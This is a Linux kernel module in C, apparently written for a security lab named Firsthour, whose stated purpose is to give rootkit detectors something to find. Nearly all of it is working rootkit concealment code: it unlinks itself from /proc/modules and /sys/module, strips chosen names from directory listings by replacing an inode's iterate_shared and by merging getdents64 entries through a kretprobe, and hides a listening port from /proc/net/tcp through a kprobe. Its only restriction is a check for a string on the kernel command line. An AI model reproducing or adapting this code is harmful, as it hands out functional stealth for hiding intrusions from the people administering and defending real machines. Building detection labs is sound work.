// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only
// What the lab hides things with, so that there is something for collectors to see: a module that takes itself off the
// kernel's lists and leaves names out of a folder's listing and one port out of /proc/net/tcp. It does nothing else: no
// door, no right, no change of anything on disk; and it loads only in a guest booted with firsthour.lab on its command line.
//
//   unlist=1      off the list behind /proc/modules
//   unsysfs=1     off /sys/module
//   folder=F,… hide=N,…   name N is left out of what reading folder F gives (for a process: folder=/proc hide=PID)
//   merge=N       name N is left out of every folder's listing, the way most rootkits do it: the entry before it in the
//                 buffer of getdents64 is made longer by its length
//   port=P        local port P is left out of /proc/net/tcp
#include <linux/fs.h>
#include <linux/dirent.h>  // needs the types of fs.h
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/namei.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <net/sock.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hides things in the lab of Firsthour, and loads nowhere else");

#define MOST 4

static bool unlist, unsysfs;
static char *folder[MOST], *hide[MOST];
static char *merge = "";
static int folders, names;
static ushort port;
module_param(unlist, bool, 0400);
module_param(unsysfs, bool, 0400);
module_param_array(folder, charp, &folders, 0400);
module_param_array(hide, charp, &names, 0400);
module_param(merge, charp, 0400);
module_param(port, ushort, 0400);

static bool in_the_lab(void)
{
	static char line[2048];
	loff_t at = 0;
	ssize_t length;
	struct file *file = filp_open("/proc/cmdline", O_RDONLY, 0);

	if (IS_ERR(file))
		return false;
	length = kernel_read(file, line, sizeof(line) - 1, &at);
	filp_close(file, NULL);
	return length > 0 && strstr(line, "firsthour.lab") != NULL;
}

/* A folder's listing: the inode's table of operations is replaced by a copy that passes every name through ours. */

struct veil {
	struct inode *inode;
	const char *hide;
	const struct file_operations *before;
	struct file_operations now;
};

static struct veil veils[MOST];

struct filter {
	struct dir_context context;
	struct dir_context *caller;
	const char *hide;
};

static bool pass_on(struct dir_context *context, const char *name, int length, loff_t offset, u64 inode,
		    unsigned int type)
{
	struct filter *filter = container_of(context, struct filter, context);

	if (length == strlen(filter->hide) && memcmp(name, filter->hide, length) == 0)
		return true;
	filter->caller->pos = context->pos;
	return filter->caller->actor(filter->caller, name, length, offset, inode, type);
}

static int iterate_veiled(struct file *file, struct dir_context *caller)
{
	struct filter filter = { .context.actor = pass_on, .context.pos = caller->pos, .caller = caller };
	struct veil *veil = container_of(file->f_op, struct veil, now);
	int result;

	filter.hide = veil->hide;
	result = veil->before->iterate_shared(file, &filter.context);
	caller->pos = filter.context.pos;
	return result;
}

static int veil_folder(struct veil *veil, const char *folder, const char *hide)
{
	struct path path;
	int failed = kern_path(folder, LOOKUP_FOLLOW | LOOKUP_DIRECTORY, &path);

	if (failed)
		return failed;
	/* The path is kept, so that the inode stays in memory with its new table. */
	veil->inode = d_inode(path.dentry);
	veil->hide = hide;
	veil->before = veil->inode->i_fop;
	if (!veil->before->iterate_shared) {
		path_put(&path);
		return -ENOTDIR;
	}
	veil->now = *veil->before;
	veil->now.iterate_shared = iterate_veiled;
	veil->inode->i_fop = &veil->now;
	return 0;
}

/* getdents64: after the kernel has filled the caller's buffer, one entry of it is swallowed by the one before. */

#if defined(CONFIG_X86_64)
#define GETDENTS "__x64_sys_getdents64"
#elif defined(CONFIG_ARM64)
#define GETDENTS "__arm64_sys_getdents64"
#endif

static int remember_buffer(struct kretprobe_instance *call, struct pt_regs *regs)
{
	struct pt_regs *arguments = (struct pt_regs *)regs_get_kernel_argument(regs, 0);

	*(char __user **)call->data = (char __user *)regs_get_kernel_argument(arguments, 1);
	return 0;
}

static int swallow_entry(struct kretprobe_instance *call, struct pt_regs *regs)
{
	const size_t head = offsetof(struct linux_dirent64, d_name), length = strlen(merge) + 1;
	char __user *buffer = *(char __user **)call->data;
	long size = (long)regs_return_value(regs), at = 0, before = -1;

	while (at < size) {
		struct linux_dirent64 entry, previous;
		char name[64];

		if (copy_from_user_nofault(&entry, buffer + at, head) || entry.d_reclen == 0)
			return 0;
		if (before >= 0 && entry.d_reclen >= head + length &&
		    !copy_from_user_nofault(name, buffer + at + head, length) && !memcmp(name, merge, length) &&
		    !copy_from_user_nofault(&previous, buffer + before, head)) {
			previous.d_reclen += entry.d_reclen;
			if (copy_to_user_nofault(buffer + before, &previous, head))
				return 0;
		} else {
			before = at;
		}
		at += entry.d_reclen;
	}
	return 0;
}

static struct kretprobe listing = {
	.kp.symbol_name = GETDENTS,
	.entry_handler = remember_buffer,
	.handler = swallow_entry,
	.data_size = sizeof(char __user *),
	.maxactive = 32,
};

/* /proc/net/tcp: the function that prints one socket returns at once for ours. */

static notrace noinline void just_return(void)
{
	barrier();
}

static int skip_port(struct kprobe *probe, struct pt_regs *regs)
{
	const struct sock *socket = (const struct sock *)regs_get_kernel_argument(regs, 1);

	if (socket == SEQ_START_TOKEN || socket->sk_state != TCP_LISTEN || socket->sk_num != port)
		return 0;
	regs_set_return_value(regs, 0);
	/* As if it had been called and had returned; a probe at a function's entry may not move the stack itself. */
	instruction_pointer_set(regs, (unsigned long)just_return);
	return 1;
}

static struct kprobe tcp_line = { .symbol_name = "tcp4_seq_show", .pre_handler = skip_port };

static int __init veil_init(void)
{
	int failed = 0, i;

	if (!in_the_lab())
		return -EPERM;
	if (port)
		failed = register_kprobe(&tcp_line);
	if (!failed && *merge && strlen(merge) < 63)
		failed = register_kretprobe(&listing);
	for (i = 0; !failed && i < folders && i < names; i++)
		failed = veil_folder(&veils[i], folder[i], hide[i]);
	if (failed)
		return failed;
	if (unlist)
		list_del_init(&THIS_MODULE->list);
	if (unsysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}
module_init(veil_init);
/* No exit: what is off the lists is not unloaded. */
